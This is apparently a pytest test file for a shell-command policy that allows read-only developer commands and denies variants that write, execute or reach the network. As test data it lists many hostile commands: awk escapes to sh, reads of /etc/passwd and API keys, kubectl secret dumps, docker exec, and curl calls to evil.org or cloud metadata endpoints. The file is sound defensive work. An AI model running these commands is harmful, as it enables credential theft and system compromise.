"""Commands that read, lint and test pass, and their twins that write, run or reach out ask."""

from __future__ import annotations

from pathlib import Path

import pytest
from shell_tables import read_tables

from amplifier_guard import ShellDenied, ShellPolicy

PROGRAMS = sorted(name for name in read_tables() if not name.startswith("@"))

READING = {
    "git config user.email": [
        "git config user.email me@example.com",
        "git config alias.x '!id'",
        "git config core.fsmonitor ./evil",
        "git config edit",
        "git config --edit",
        "git config -e",
        "git config --global -e",
        "git config -- edit",
        "git config --unset user.email",
        "git config unset user.email",
        "git config set a.b c",
        "git config --add a.b c",
        "git config --replace-all a.b c",
        "git config -f /etc/gitconfig user.email",
        "git config --file=../x user.email",
        "git config --blob=HEAD:x user.email",
        "git config --get-urlmatch http https://x.org",
        "git config --remove-section user",
        "git -c core.fsmonitor=./evil status",
        "git -c alias.x='!id' config user.email",
        "git --git-dir=../x config user.email",
        "git --config-env=core.pager=X log",
    ],
    "git config --get remote.origin.url": ["git config --get edit", "git config --get a.b c d"],
    "git config --global --show-origin user.name": ["git config --global user.name me"],
    "git diff --no-index a/old.txt new.txt": [
        "git diff --no-index a /etc/passwd",
        "git diff --no-index ../a b",
        "git diff --no-index a/../../x b",
        "git diff --no-index --output=x a b",
        "git diff --no-index --ext-diff a b",
        "git diff --no-index --textconv a b",
        "git grep --no-index x",
    ],
    "awk '{print $1}' a.txt": [
        "awk 'BEGIN{system(\"id\")}'",
        "awk 'BEGIN{x=5system(\"id\")}'",
        "awk 'BEGIN{awk::system(\"id\")}'",
        "awk '{system (\"id\")}' a.txt",
        "awk '{print | \"sh\"}' a.txt",
        "awk '{print|\"sh\"}' a.txt",
        "awk '{print $1 ||| \"sh\"}' a.txt",
        "awk '{print |& \"sh\"}' a.txt",
        "awk '{\"id\" | getline x}' a.txt",
        "awk 'BEGIN{getline<\"/etc/passwd\";print}'",
        "awk 'BEGIN{while((getline l < f)>0) print l}'",
        "awk '{print > \"out\"}' a.txt",
        "awk '{print >> \"out\"}' a.txt",
        "awk '{print $1>$2}' a.txt",
        "awk '{print >||= \"out\"}' a.txt",
        'awk \'{printf "%s", $0 >"/dev/tcp/x/80"}\' a.txt',
        "awk 'BEGIN{ARGV[1]=\"/etc/passwd\";ARGC=2}{print}'",
        'awk \'BEGIN{SYMTAB["AR" "GV"][1]="/etc/passwd"}{print}\'',
        "awk 'BEGIN{print ENVIRON[\"API_KEY\"]}'",
        "awk '@load \"filefuncs\"; {print}'",
        "awk '@include \"x.awk\"'",
        'awk \'BEGIN{f="sys" "tem"; @f("id")}\'',
        "awk -f script.awk a.txt",
        "awk -fscript.awk a.txt",
        "awk -i inplace '{print}' a.txt",
        "awk -l filefuncs '{print}' a.txt",
        "awk -e '{print}' a.txt",
        "awk -E script.awk",
        "awk --source '{print}' a.txt",
        "awk --file=script.awk a.txt",
        "awk -W exec script.awk",
        "awk -o out '{print}' a.txt",
        "awk '{print}' /etc/passwd",
        "awk '{print}' ../x",
        "awk '{print}' FS=: /etc/passwd",
        # What is a text to some is a program to others.
        'awk \'/"/ {print | "sh"} # "\'',
        'awk \'BEGIN{print /[/] "/ | "sh" # "\'',
        'awk \'BEGIN{print "id" ~ /[]/ ~ "]/ | "sh" # "\n}\'',
        'awk \'BEGIN{print "id" ~ /[[:alpha:]/ ~ "]/ | "sh" # "\n}\'',
        'awk \'BEGIN{print "id" ~ /[^]/ ~ "]/ | "sh" # "\n}\'',
        'awk \'BEGIN{print "id" ~ /[\\]/ ~ "]/ | "sh" # "\n}\'',
        'awk \'{# "\nprint | "sh" # "\n}\'',
        'awk \'{x /= 2; print "/ | " "sh" /= "x"}{print | "sh"}\'',
        'awk \'{print /"/ | "sh" # "\n}\'',
        'awk \'{if (x) /"/; print | "sh" # "\n}\'',
    ],
    "awk -F: '$3 >= 1000 || /^#|x>y/ { print \"a|b > c\", $1 }' a.txt": [],
    "awk -F, -v n=3 'NR==n {print $2/$3 \"%\"}' a.csv": [],
    "gawk '/[0-9]+[[:space:]]\\/x/ { s += $2 } END { printf \"%.2f|%d\\n\", s/NR, s }' a.txt": [],
    "awk '!seen[$0]++' a.txt": [],
    "awk '$1 != \"Filesystem\" {print system_load, getlines}' a.txt": [],
    "black --check .": [
        "black .",
        "black src/a.py",
        "black --check --config /etc/x .",
        "black --check --config=x .",
        "black -c 'x = 1'",
        "black --check /etc",
        "black --check ../x",
        "black --version -W 4 --workers=4",
        "black --check -- --config=x",
    ],
    "black --check --diff -q -l 100 src": ["black -q src"],
    "isort --check-only --profile black src": [
        "isort src",
        "isort --check --settings-path=/etc src",
        "isort --check --profile evil src",
        "isort --check --formatter=evil src",
        "isort --check --overwrite-in-place src",
    ],
    "python -m black --check src": [
        "python -m black src",
        "python -m black --check --config=x src",
    ],
    "flake8 --max-line-length=100 --select E9,F63 --statistics src": [
        "flake8 --config=x",
        "flake8 --config /etc/x src",
        "flake8 --append-config=x",
        "flake8 --output-file=x src",
        "flake8 --tee src",
        "flake8 --format=evil src",
        "flake8 --require-plugins=x",
        "flake8 --enable-extensions=x",
        "flake8 @args",
        "flake8 /etc",
        "flake8 -- --config=x",
    ],
    "pylint --disable=C0114 -rn -j 4 --output-format=json src": [
        "pylint --load-plugins=evil src",
        "pylint --load-plugins evil src",
        "pylint --init-hook='import os' src",
        "pylint --init-hook 'import os' src",
        "pylint --init=x src",
        "pylint --rcfile=x src",
        "pylint --rc=x src",
        "pylint --output=x src",
        "pylint --output-format=evil.Reporter src",
        "pylint --output-format=json:out src",
        "pylint -f evil.Reporter src",
        "pylint -fjson:out src",
        "pylint --extension-pkg-allow-list=x src",
        "pylint --import-graph=x src",
        "pylint @args",
        "pylint ../x",
    ],
    "pip check": [
        "pip check --log=x",
        "pip install x",
        "pip --python x check",
        "pip download x",
        "pip config set a b",
        "pip uninstall -y x",
        "pip check --cache-dir=x",
    ],
    "tox -e py311,lint -q": [
        "tox -c ../x",
        "tox --conf=x",
        "tox -x testenv.commands=id",
        "tox --override=testenv.commands=id",
        "tox --workdir=/tmp/x",
        "tox --root=x",
        "tox --installpkg=x",
        "tox -- -p evil",
        "tox -e py -- --basetemp=x",
        "tox exec -e py -- id",
        "tox devenv x",
        "tox --result-json=x",
        "tox -e ../x",
    ],
    "tox run -e py311": ["tox run -- x", "tox run -c x"],
    "docker logs --tail 100 --since 10m -t web": [
        "docker logs -f web",
        "docker logs --follow web",
        "docker logs -tf web",
        "docker -H tcp://x:2375 logs web",
        "docker logs -H tcp://x:2375 web",
        "docker --host=tcp://x logs web",
        "docker --context x logs web",
        "docker --config x logs web",
        "docker exec web id",
        "docker run web",
        "docker inspect web",
        "docker cp web:/etc/passwd x",
    ],
    "kubectl describe pod web-1 -n dev": [
        "kubectl describe secret x",
        "kubectl describe secrets",
        "kubectl describe secret/x",
        "kubectl describe -f x.yaml",
        "kubectl describe pod x --kubeconfig=x",
        "kubectl describe pod x --server=https://x",
        "kubectl describe pod x -s https://x",
        "kubectl --token=x describe pod x",
        "kubectl describe pod,secret",
        "kubectl describe pod/x secret/y",
    ],
    "kubectl get pods -o wide": [
        "kubectl get secrets",
        "kubectl get secret",
        "kubectl get Secrets",
        "kubectl get secret x -o yaml",
        "kubectl get secret/x",
        "kubectl get secrets.v1.",
        "kubectl get -o yaml secrets",
        "kubectl get -n dev secret x",
        "kubectl get pods,secrets",
        "kubectl get secrets,pods",
        "kubectl get all,secrets",
        "kubectl get pod/a secret/b",
        "kubectl get -f x.yaml",
        "kubectl get -k .",
        "kubectl get --raw /api/v1/secrets",
        "kubectl get pods -w",
        "kubectl get pods --kubeconfig=x",
        "kubectl get externalsecrets",
        "kubectl get -- secrets",
        "kubectl get pods --template={{.x}} -o go-template-file=x",
        "kubectl get pods -o jsonpath-file=x",
    ],
    "kubectl logs deploy/web -c app --tail=100 --since=1h -p": [
        "kubectl logs -f web",
        "kubectl logs --follow web",
        "kubectl logs web --kubeconfig=x",
        "kubectl logs web -s https://x",
        "kubectl logs ../web",
        "kubectl exec web -- id",
        "kubectl cp web:/x y",
        "kubectl port-forward web 80",
    ],
    "kubectl config current-context": [
        "kubectl config view",
        "kubectl config view --raw",
        "kubectl config use-context x",
        "kubectl config set a b",
        "kubectl config current-context --kubeconfig=x",
    ],
    "unzip -l a.zip '*.txt'": [
        "unzip a.zip",
        "unzip -p a.zip",
        "unzip -lp a.zip",
        "unzip -l -p a.zip",
        "unzip -l -o a.zip",
        "unzip -l a.zip -d out",
        "unzip -l -- -p a.zip",
        "unzip -l ../a.zip",
        "unzip -l /etc/a.zip",
        "unzip -v a.zip",
        "unzip -l-o a.zip",
        "unzip --l a.zip",
    ],
    "npx --no-install jest src": [
        "npx jest",
        "npx jest --no-install",
        "npx -y jest",
        "npx --yes jest",
        "npx --no-install jest@latest",
        "npx --no-install evil",
        "npx --no-install ./evil",
        "npx --no-install -c id",
        "npx --no-install -p evil jest",
        "npx --no-install --package=evil jest",
        "npx --no-install -- jest",
        "npx --no-install jest --config=x",
        "npx --no-install=false jest",
        "npx --no-install false jest",
        "npx --no-install",
        "npx",
        "npx -c id",
    ],
    "npx --no-install tsc --noEmit": [
        "npx --no-install tsc",
        "npx --no-install tsc --noEmit false",
        "npx tsc --noEmit",
    ],
    "npx --no-install eslint src": ["npx --no-install eslint --fix src"],
    "tsc --noEmit -p tsconfig.json": [
        "tsc",
        "tsc -p .",
        "tsc --noEmit false",
        "tsc --noEmit false -p .",
        "tsc --noEmit=false",
        "tsc --noEmit --strict false",
        "tsc --noEmit -p /other",
        "tsc --noEmit -p ../other",
        "tsc -p /other --outDir x",
        "tsc --noEmit --outDir x",
        "tsc --noEmit --outFile x",
        "tsc --noEmit -b",
        "tsc -b --noEmit",
        "tsc --noEmit -w",
        "tsc --noEmit --watch",
        "tsc --noEmit --init",
        "tsc --init",
        "tsc --noEmit @args",
        "tsc --noEmit --generateTrace x",
        "tsc --noEmit --generateCpuProfile x",
        "tsc --noEmit --incremental --tsBuildInfoFile x",
        "tsc --noEmit --plugins x",
    ],
    "eslint src --ext .ts,.tsx --max-warnings 0 -f json": [
        "eslint --fix src",
        "eslint --fix-type problem src",
        "eslint -c x src",
        "eslint --config x src",
        "eslint --config=x src",
        "eslint --rulesdir x src",
        "eslint --plugin x src",
        "eslint --parser x src",
        "eslint --resolve-plugins-relative-to x src",
        "eslint -f ./evil.js src",
        "eslint -f evil src",
        "eslint --format=../evil.js src",
        "eslint -o out src",
        "eslint --output-file=out src",
        "eslint --cache src",
        "eslint --cache-location=x src",
        "eslint --init",
        "eslint --env-info",
        "eslint ../x",
        "eslint -- --fix",
    ],
    "jest src/auth -t 'logs in' --ci --coverage -i": [
        "jest --config=x",
        "jest -c x",
        'jest -c \'{"globalSetup":"./x"}\'',
        "jest --rootDir=/etc",
        "jest --roots /etc",
        "jest --globalSetup=x",
        "jest --setupFiles x",
        "jest --setupFilesAfterEnv=x",
        "jest --runner=x",
        "jest --reporters=x",
        "jest --transform=x",
        "jest --resolver=x",
        "jest --testEnvironment=x",
        "jest --env=x",
        "jest --outputFile=x --json",
        "jest --coverageDirectory=x",
        "jest --cacheDirectory=x",
        "jest -u",
        "jest --updateSnapshot",
        "jest --watch",
        "jest --watchAll",
        "jest --projects /etc",
        "jest --init",
        "jest --runTestsByPath ../x",
        "jest ../x",
        "jest -- -u",
    ],
}


# Holds: sink-12
def test_each_twin_of_a_command_that_reads_asks() -> None:
    policy = ShellPolicy(PROGRAMS, root="/srv/proj")
    assert {line for line in READING if not passes(policy, line)} == set()
    twins = [twin for found in READING.values() for twin in found]
    assert [twin for twin in twins if passes(policy, twin)] == []


def passes(policy: ShellPolicy, line: str) -> bool:
    try:
        return bool(policy.check(line))
    except ShellDenied:
        return False


def test_a_link_out_of_the_root_asks_for_the_new_operands_too(tmp_path: Path) -> None:
    (tmp_path / "keys").symlink_to("/etc/passwd")
    policy = ShellPolicy(PROGRAMS, root=tmp_path)
    for line in (
        "git diff --no-index keys a",
        "awk '{print}' keys",
        "black --check keys",
        "flake8 keys",
        "pylint keys",
        "unzip -l keys",
        "eslint keys",
        "jest keys",
        "tsc --noEmit -p keys",
    ):
        with pytest.raises(ShellDenied, match="lies outside the project"):
            policy.check(line)


LOOPBACK = [
    "curl -s http://localhost:8080/health",
    "curl http://127.0.0.1:3000/",
    "curl -I http://127.8.9.1/",
    "curl -sS -H 'Accept: text/plain' -m 5 -w '%{http_code}' -o /dev/null http://localhost",
]
REACHING_OUT = [
    "http://10.0.0.1/", "http://192.168.1.1/", "http://169.254.169.254/latest", "http://[::1]:8080/",
    "http://localhost.evil.org:8080/", "http://evil.org:8080/", "http://localhost@evil.org/",
    "http://localhost:80@evil.org/", "http://localhost\\@evil.org/",
    "http://0.0.0.0:8080/", "ftp://localhost/", "file://localhost/etc/passwd", "localhost:8080",
    "http://{localhost,evil.org}:1/", "http://metadata.google.internal/", "http://localhost:99999/",
]  # fmt: skip
OPTIONS = """-o x|-O|-T x|-x http://x|--proxy=http://x|--unix-socket x|--abstract-unix-socket x|-K x|--config x|
-d @x|-d x|--data-binary @x|--json x|-F a=@x|-X POST|-X DELETE|--output-dir x|-c x|-b x|-D x|--trace x|
--resolve localhost:80:1.2.3.4|--connect-to ::x:80|-L|--location|-n|--netrc-file x|-E x|--cert x|--cacert x|-k|
--interface x|--libcurl x|--stderr x|--etag-save x|--hsts x|--alt-svc x|-u a:b|-H @x|-w @x|
-w %output{x}|--next|-:|--proto-redir =all|--socks5 x|--preproxy x|--doh-url https://x|-Q x""".replace(
    "\n", ""
).split("|")


# Holds: sink-14
def test_curl_reads_from_this_machine_only_if_the_plan_says_so() -> None:
    closed = ShellPolicy(["curl"], root="/srv/proj")
    opened = ShellPolicy(["curl"], root="/srv/proj", loopback=True)
    assert [line for line in LOOPBACK if passes(closed, line)] == []
    assert [line for line in LOOPBACK if not passes(opened, line)] == []
    assert [url for url in REACHING_OUT if passes(opened, f"curl -s '{url}'")] == []
    hostile = [f"curl {option} http://localhost:8080/" for option in OPTIONS]
    hostile += [f"curl http://localhost:8080/ {option}" for option in OPTIONS]
    assert [line for line in hostile if passes(opened, line)] == []
